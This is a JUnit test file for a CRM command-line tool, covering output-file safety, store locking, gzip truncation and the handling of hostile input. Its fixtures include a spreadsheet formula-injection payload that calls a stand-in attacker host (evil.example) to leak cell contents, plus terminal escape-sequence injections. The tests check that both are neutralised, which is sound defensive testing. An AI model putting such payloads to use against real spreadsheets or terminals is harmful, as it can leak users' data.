package org.ecrm.examples.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.CyclicBarrier;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Output files, the --rejects file, usage errors and --store locking of the command line, and the
 * import, sessions and export entry points with hostile input.
 */
class OutputsAndStoresTest {
  @TempDir
  Path dir;

  private final StringWriter out = new StringWriter();
  private final StringWriter err = new StringWriter();

  private int run(String... args) {
    return CrmCli.run(new PrintWriter(out, true), new PrintWriter(err, true), TestArgs.withCurrency(args));
  }

  private Path tx() throws IOException {
    Path csv = dir.resolve("in.csv");
    Files.writeString(csv, "customer_id,date,amount\n1,2024-01-01,10.00\n2,2024-01-03 10:15:00,5.00\n");
    return csv;
  }

  private Path log(String... extra) throws IOException {
    List<String> lines = new ArrayList<>(List.of(
        "1.2.3.4 - - [17/May/2015:10:05:03 +0000] \"GET /a HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\"",
        "1.2.3.4 - - [17/May/2015:10:06:03 +0000] \"GET /b HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\""));
    lines.addAll(Arrays.asList(extra));
    Path log = dir.resolve("a.log");
    Files.writeString(log, String.join("\n", lines) + "\n");
    return log;
  }

  private static byte[] gzip(byte[] plain) throws IOException {
    ByteArrayOutputStream b = new ByteArrayOutputStream();
    try (GZIPOutputStream g = new GZIPOutputStream(b)) {
      g.write(plain);
    }
    return b.toByteArray();
  }

  private List<Path> tempFiles() throws IOException {
    try (Stream<Path> s = Files.list(dir)) {
      return s.filter(p -> p.getFileName().toString().endsWith(".tmp")).toList();
    }
  }

  @Test
  void outputEqualToAnInput_isRefusedBeforeAnyWork_andTheInputStays() throws Exception {
    Path in = tx();
    String before = Files.readString(in);
    assertThat(run("segment", "--format", "csv", "-o", in.toString(), in.toString())).isEqualTo(CrmCli.USAGE);
    assertThat(err.toString()).contains("is the input").contains("refusing to overwrite it");
    assertThat(run("segment", "--format", "csv", "-o", dir.resolve(".").resolve("in.csv").toString(), in.toString()))
        .isEqualTo(CrmCli.USAGE);
    Path link = dir.resolve("link.csv");
    Files.createSymbolicLink(link, in);
    assertThat(run("segment", "--format", "json", "-o", link.toString(), in.toString())).isEqualTo(CrmCli.USAGE);
    assertThat(run("summary", "--calibration-end", "2024-01-02", "-o", in.toString(), in.toString()))
        .isEqualTo(CrmCli.USAGE);
    assertThat(run("segment", "--rejects", in.toString(), in.toString())).isEqualTo(CrmCli.USAGE);
    Path a = log();
    String logBefore = Files.readString(a);
    assertThat(run("report", "--weblog", a.toString(), "-o", a.toString(), in.toString())).isEqualTo(CrmCli.USAGE);
    assertThat(Files.readString(in)).isEqualTo(before);
    assertThat(Files.readString(a)).isEqualTo(logBefore);
    assertThat(out.toString()).isEmpty();
    assertThat(tempFiles()).isEmpty();
  }

  @Test
  void outWithTheTableFormat_isAUsageError() throws Exception {
    Path t = dir.resolve("t.csv");
    assertThat(run("segment", "-o", t.toString(), tx().toString())).isEqualTo(CrmCli.USAGE);
    assertThat(err.toString()).contains("-o/--out needs --format csv or json");
    assertThat(t).doesNotExist();
    assertThat(out.toString()).isEmpty();
  }

  @Test
  void usageErrors_exitTwo_beforeAnyOutput() throws Exception {
    Path in = tx();
    Path a = log();
    Path html = dir.resolve("r.html");
    String[][] cases = {
        {"segment", "--bins", "1", in.toString()},
        {"segment", "--bins", "101", in.toString()},
        {"segment", "--currency", "FOO", in.toString()},
        {"segment", "--format", "xml", in.toString()},
        {"segment", "--max-rejects", "-1", in.toString()},
        {"segment", "--min-date", "1969-01-01", in.toString()},
        {"segment", "--max-field-length", "0", in.toString()},
        {"summary", "--calibration-end", "2024-01-02", "--currency", "FOO", in.toString()},
        {"summary", "--calibration-end", "2024-01-02", "--unit", "years", in.toString()},
        {"report", "-o", html.toString(), "--bins", "1", in.toString()},
        {"report", "-o", html.toString(), "--zone", "Mars/Base", "--weblog", a.toString(), in.toString()},
        {"report", "-o", html.toString(), "--currency", "FOO", in.toString()},
        {"sessions", "--zone", "Mars/Base", a.toString()},
        {"sessions", "--top", "-1", a.toString()},
        {"import", "--upsert-by", "phone", in.toString()},
    };
    for (String[] c : cases) {
      StringWriter o = new StringWriter();
      StringWriter e = new StringWriter();
      int code = CrmCli.run(new PrintWriter(o, true), new PrintWriter(e, true), TestArgs.withCurrency(c));
      assertThat(code).as(String.join(" ", c) + "\n" + e).isEqualTo(CrmCli.USAGE);
      assertThat(o.toString()).as(String.join(" ", c)).isEmpty();
      assertThat(e.toString()).as(String.join(" ", c)).isNotEmpty();
    }
    assertThat(html).doesNotExist();
  }

  @Test
  void aFailedWrite_leavesThePreviousFile_andNoTempFile() throws Exception {
    Path target = dir.resolve("report.html");
    Files.writeString(target, "previous");
    assertThatThrownBy(() -> Outputs.write(target, w -> {
      w.write("half a page");
      throw new IOException("disk full");
    })).hasMessage("disk full");
    assertThat(Files.readString(target)).isEqualTo("previous");
    assertThat(tempFiles()).isEmpty();
    // a run that fails on its input leaves the previous report too
    assertThat(run("report", "-o", target.toString(), dir.resolve("missing.csv").toString()))
        .isEqualTo(CrmCli.BAD_INPUT);
    assertThat(Files.readString(target)).isEqualTo("previous");
    // and a successful run replaces it whole
    assertThat(run("report", "-o", target.toString(), tx().toString())).isZero();
    assertThat(Files.readString(target)).startsWith("<!DOCTYPE html>").endsWith("</html>\n");
    assertThat(tempFiles()).isEmpty();
  }

  @Test
  void concurrentWritesOfOneTarget_useUniqueTempFiles_andLeaveOneWholeContent() throws Exception {
    Path target = dir.resolve("out.csv");
    String a = "a".repeat(1 << 20);
    String b = "b".repeat(1 << 20);
    CyclicBarrier start = new CyclicBarrier(2);
    ExecutorService pool = Executors.newFixedThreadPool(2);
    try {
      List<Future<?>> fs = new ArrayList<>();
      for (String content : List.of(a, b)) {
        fs.add(pool.submit(() -> {
          start.await();
          for (int i = 0; i < 20; i++) {
            Outputs.write(target, w -> w.write(content));
          }
          return null;
        }));
      }
      for (Future<?> f : fs) {
        f.get(60, TimeUnit.SECONDS);
      }
    } finally {
      pool.shutdownNow();
    }
    assertThat(Files.readString(target)).isIn(a, b);
    assertThat(tempFiles()).isEmpty();
  }

  @Test
  void rejectsFile_listsEveryRow_asNeutralisedCsv_andStderrOnlyCounts() throws Exception {
    Path in = dir.resolve("bad.csv");
    StringBuilder sb = new StringBuilder("customer_id,date,amount\n1,2024-01-01,10.00\n");
    sb.append("2,2024-01-01,=HYPERLINK(\"http://evil.example/?\"&A1)\n");
    for (int i = 0; i < 30; i++) {
      sb.append("3,2024-01-0x,1.00\n");
    }
    Files.writeString(in, sb);
    Path rejects = dir.resolve("rejects.csv");
    assertThat(run("segment", "--rejects", rejects.toString(), in.toString())).isEqualTo(CrmCli.BAD_INPUT);
    List<String> lines = Files.readAllLines(rejects);
    assertThat(lines).hasSize(32);
    assertThat(lines.get(0)).isEqualTo("file,line,field,reason,value");
    assertThat(lines.get(1)).endsWith(",3,amount,not a decimal number,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
    assertThat(lines.get(2)).endsWith(",4,date,not an ISO date yyyy-MM-dd,2024-01-0x");
    assertThat(err.toString()).doesNotContain("HYPERLINK")
        .contains("31 rejected rows (listed in " + rejects + "): 30 not an ISO date yyyy-MM-dd; 1 not a decimal number");
    assertThat(run("segment", "--max-rejects", "31", "--rejects", rejects.toString(), in.toString())).isZero();
  }

  @Test
  void segmentCsv_neutralisesAFormulaSegmentName_whileNumbersStayNumbers() throws Exception {
    Path rules = dir.resolve("rules.json");
    Files.writeString(rules, "{\"bins\":2,\"rules\":[{\"name\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1)\","
        + "\"r\":[1,2],\"f\":[1,2],\"m\":[1,2]}]}");
    Path csv = dir.resolve("tx.csv");
    Files.writeString(csv, "customer_id,date,amount\n1,2024-01-01,-10.00\n2,2024-01-03,5.00\n");
    Path outCsv = dir.resolve("seg.csv");
    assertThat(run("segment", "--bins", "2", "--rules", rules.toString(), "--format", "csv", "-o", outCsv.toString(),
        csv.toString())).as(err.toString()).isZero();
    String written = Files.readString(outCsv);
    assertThat(written).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"").contains(",-10.00,")
        .doesNotContain(",=HYPERLINK");
  }

  @Test
  void asOf_isTheDayAfterTheLastAcceptedDate_withTimesAndAnotherColumnOrder() throws Exception {
    Path csv = dir.resolve("order.csv");
    Files.writeString(csv, "amount,date,customer_id\n10.00,2024-03-01T23:59:00,1\n5.00,2024-03-05 08:00,2\n"
        + "1.00,9999-12-31,3\n");
    // columns in another order are found by name; the rejected 9999 row does not move the as-of
    assertThat(run("segment", "--max-rejects", "1", csv.toString())).isZero();
    assertThat(out.toString()).contains("RFM as of 2024-03-06, 2 customers");
  }

  @Test
  void storeLock_secondCommandInTheSameProcess_getsInUse() throws Exception {
    Path store = dir.resolve("s.jsonl");
    Path customers = dir.resolve("c.csv");
    Files.writeString(customers, "id,email\nc1,a@example.com\n");
    StoreOptions holder = new StoreOptions();
    holder.store = store;
    holder.lock();
    try {
      assertThat(run("import", "-q", "--store", store.toString(), customers.toString())).isEqualTo(CrmCli.BAD_INPUT);
      assertThat(err.toString()).contains("is in use by another process");
      assertThat(run("export", "--store", store.toString())).isEqualTo(CrmCli.BAD_INPUT);
    } finally {
      holder.close();
    }
    assertThat(run("import", "-q", "--store", store.toString(), customers.toString())).isZero();
    assertThat(Files.readString(store)).contains("a@example.com");
  }

  @Test
  void storeLock_heldByAnotherJvm_givesInUseByAnotherProcess() throws Exception {
    Path store = dir.resolve("s.jsonl");
    Path customers = dir.resolve("c.csv");
    Files.writeString(customers, "id,email\nc1,a@example.com\n");
    String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
    Process p = new ProcessBuilder(java, "-cp", System.getProperty("java.class.path"),
        StoreLockHolder.class.getName(), store.toString()).redirectErrorStream(true).start();
    try {
      BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream(), StandardCharsets.UTF_8));
      assertThat(r.readLine()).isEqualTo("locked");
      assertThat(run("import", "-q", "--store", store.toString(), customers.toString())).isEqualTo(CrmCli.BAD_INPUT);
      assertThat(err.toString()).contains("s.jsonl is in use by another process");
      assertThat(store).doesNotExist();
    } finally {
      p.getOutputStream().close();
      assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
    }
    assertThat(run("import", "-q", "--store", store.toString(), customers.toString())).isZero();
  }

  @Test
  void twoImportsAtOnce_oneWinsWhole_theOtherIsRefused_andTheStoreOpens() throws Exception {
    Path store = dir.resolve("s.jsonl");
    List<Path> files = new ArrayList<>();
    for (int k = 0; k < 2; k++) {
      StringBuilder sb = new StringBuilder("id,email\n");
      for (int i = 0; i < 1000; i++) {
        sb.append("k").append(k).append('-').append(i).append(",u").append(k).append('.').append(i)
            .append("@example.com\n");
      }
      Path f = dir.resolve("c" + k + ".csv");
      Files.writeString(f, sb);
      files.add(f);
    }
    CyclicBarrier start = new CyclicBarrier(2);
    ExecutorService pool = Executors.newFixedThreadPool(2);
    List<Future<Integer>> codes = new ArrayList<>();
    try {
      for (Path f : files) {
        codes.add(pool.submit(() -> {
          start.await();
          return CrmCli.run(new PrintWriter(new StringWriter()), new PrintWriter(new StringWriter()), "import", "-q",
              "--store", store.toString(), f.toString());
        }));
      }
      int ok = 0;
      for (Future<Integer> c : codes) {
        int code = c.get(60, TimeUnit.SECONDS);
        assertThat(code).isIn(CrmCli.OK, CrmCli.BAD_INPUT);
        ok += code == CrmCli.OK ? 1 : 0;
      }
      assertThat(ok).isGreaterThanOrEqualTo(1);
    } finally {
      pool.shutdownNow();
    }
    // whatever the interleaving, the store is a whole archive that the next command opens
    assertThat(run("export", "--store", store.toString(), "-o", dir.resolve("x.jsonl").toString())).isZero();
    assertThat(tempFiles()).isEmpty();
  }

  @Test
  void import_bomGzipByMagicAndTruncation() throws Exception {
    Path store = dir.resolve("s.jsonl");
    Path bom = dir.resolve("bom.csv");
    Files.write(bom, concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
        "id,email\nc1,a@example.com\n".getBytes(StandardCharsets.UTF_8)));
    assertThat(run("import", "-q", "--store", store.toString(), bom.toString())).as(err.toString()).isZero();
    assertThat(out.toString()).contains("1 created");
    Path gz = dir.resolve("customers.dat");
    Files.write(gz, gzip("id,email\nc2,b@example.com\n".getBytes(StandardCharsets.UTF_8)));
    assertThat(run("import", "-q", "--store", store.toString(), gz.toString())).as(err.toString()).isZero();
    String good = Files.readString(store);
    assertThat(good).contains("b@example.com");

    StringBuilder many = new StringBuilder("id,email\n");
    for (int i = 0; i < 20_000; i++) {
      many.append("t").append(i).append(",t").append(i).append("@example.com\n");
    }
    byte[] whole = gzip(many.toString().getBytes(StandardCharsets.UTF_8));
    Path cut = dir.resolve("cut.csv.gz");
    Files.write(cut, Arrays.copyOf(whole, whole.length / 2));
    // the truncation is a rejection: the store stays as it was
    assertThat(run("import", "-q", "--store", store.toString(), cut.toString())).isEqualTo(CrmCli.BAD_INPUT);
    assertThat(err.toString()).containsPattern("cut\\.csv\\.gz: truncated gzip after line \\d+")
        .contains("left unchanged");
    assertThat(Files.readString(store)).isEqualTo(good);
    // allowed: the complete lines before the cut are imported
    assertThat(run("import", "-q", "--max-rejects", "1", "--store", store.toString(), cut.toString())).isZero();
    assertThat(Files.readString(store)).contains("t0@example.com");
  }

  @Test
  void import_rejectedRows_leaveTheStoreUnchanged_unlessAllowed() throws Exception {
    Path store = dir.resolve("s.jsonl");
    Path first = dir.resolve("first.csv");
    Files.writeString(first, "id,email\nc1,a@example.com\n");
    assertThat(run("import", "-q", "--store", store.toString(), first.toString())).isZero();
    String before = Files.readString(store);
    Path bad = dir.resolve("bad.csv");
    Files.writeString(bad, "id,email\nc2,b@example.com\nc3,\u001b[2Jnot-an-email\n");
    assertThat(run("import", "-q", "--store", store.toString(), bad.toString())).isEqualTo(CrmCli.BAD_INPUT);
    assertThat(err.toString()).contains("bad.csv:3: email:").contains("\\e[2J").doesNotContain("\u001b");
    assertThat(Files.readString(store)).isEqualTo(before);
    assertThat(run("import", "-q", "--max-rejects", "1", "--store", store.toString(), bad.toString())).isZero();
    assertThat(Files.readString(store)).contains("b@example.com");
  }

  @Test
  void sessions_truncatedGzip_keepsTheLinesBefore_andEscapesPaths() throws Exception {
    StringBuilder sb = new StringBuilder();
    for (int i = 0; i < 4000; i++) {
      sb.append("1.2.3.").append(i % 200).append(" - - [17/May/2015:10:").append(String.format("%02d", i % 60))
          .append(":03 +0000] \"GET /p").append(i % 7).append(" HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\"\n");
    }
    byte[] whole = gzip(sb.toString().getBytes(StandardCharsets.UTF_8));
    Path cut = dir.resolve("access.log.gz");
    Files.write(cut, Arrays.copyOf(whole, whole.length / 2));
    assertThat(run("sessions", cut.toString())).isEqualTo(CrmCli.BAD_INPUT);
    assertThat(err.toString()).containsPattern("access\\.log\\.gz: truncated gzip after line \\d+");
    assertThat(out.toString()).containsPattern("[1-9][0-9,]* lines, 0 malformed");

    Path evil = log("1.2.3.4 - - [17/May/2015:10:07:03 +0000] \"GET /\u001b]0;owned\u0007\u001b[2J HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\"",
        "\u001b[31m" + "x".repeat(10 << 20));
    StringWriter o = new StringWriter();
    StringWriter e = new StringWriter();
    int code = CrmCli.run(new PrintWriter(o, true), new PrintWriter(e, true), "sessions", "--max-rejects", "1",
        evil.toString());
    assertThat(code).as(e.toString()).isZero();
    assertThat(o.toString() + e.toString()).doesNotContain("\u001b").doesNotContain("\u0007");
    assertThat(e.toString()).contains("a.log:4: line:").contains("\\e[31m").hasSizeLessThan(2_000);
  }

  @Test
  void export_toItsOwnStore_isRefused() throws Exception {
    Path store = dir.resolve("s.jsonl");
    Path customers = dir.resolve("c.csv");
    Files.writeString(customers, "id,email\nc1,a@example.com\n");
    assertThat(run("import", "-q", "--store", store.toString(), customers.toString())).isZero();
    String before = Files.readString(store);
    assertThat(run("export", "--store", store.toString(), "-o", store.toString())).isEqualTo(CrmCli.USAGE);
    assertThat(Files.readString(store)).isEqualTo(before);
    assertThat(run("import", "--store", customers.toString(), customers.toString())).isEqualTo(CrmCli.USAGE);
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] r = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, r, a.length, b.length);
    return r;
  }
}
